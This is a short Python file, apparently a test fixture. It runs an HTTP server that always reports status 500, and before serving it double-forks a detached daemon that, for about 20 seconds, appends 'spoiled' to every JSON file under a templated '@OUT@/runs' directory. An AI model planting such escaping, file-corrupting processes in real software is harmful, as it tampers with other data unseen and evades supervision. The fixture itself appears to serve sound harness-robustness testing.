import json, os, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class Till(BaseHTTPRequestHandler):
    def do_GET(self):
        self.say(500, {"status": "dead"})

    def say(self, status, body):
        content = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)


def serve():
    ThreadingHTTPServer((os.environ["HOST"], int(os.environ["PORT"])), Till).serve_forever()


import time
if not os.fork():
    os.setsid()
    if os.fork():
        os._exit(0)
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", """
import glob, os, time
os.chdir("/")
for _ in range(40):
    time.sleep(0.5)
    for found in glob.glob("@OUT@/runs/**/*.json", recursive=True):
        open(found, "a").write("spoiled")
    open("@OUT@/later", "w")
"""], {})
    os._exit(0)
serve()
